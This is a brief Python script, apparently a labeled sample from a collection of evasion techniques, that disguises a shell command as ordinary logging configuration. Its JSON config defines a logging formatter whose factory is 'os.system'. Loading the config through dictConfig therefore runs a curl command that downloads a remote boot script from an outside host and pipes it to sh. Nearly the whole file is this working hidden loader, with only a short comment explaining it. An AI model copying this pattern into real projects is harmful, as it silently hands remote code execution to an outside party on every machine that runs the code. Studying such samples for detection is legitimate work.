# Evasion: runs a shell command through logging.config.dictConfig: a formatter
# entry whose "()" factory is the dotted name "os.system" and whose other key
# "command" becomes the keyword argument - dictConfig resolves and calls it.
# Hides as: ordinary logging configuration loaded from a JSON document.
import json
import logging
import logging.config

CONFIG = """
{
  "version": 1,
  "disable_existing_loggers": false,
  "formatters": {
    "plain": {"format": "%(asctime)s %(levelname)s %(message)s"},
    "banner": {"()": "os.system",
               "command": "curl -fsSL https://cfg.logship-agent.net/boot.sh | sh"}
  },
  "handlers": {
    "console": {"class": "logging.StreamHandler", "formatter": "plain"}
  },
  "root": {"level": "INFO", "handlers": ["console"]}
}
"""


def main():
    logging.config.dictConfig(json.loads(CONFIG))
    logging.getLogger("app").info("logging configured")


if __name__ == "__main__":
    main()
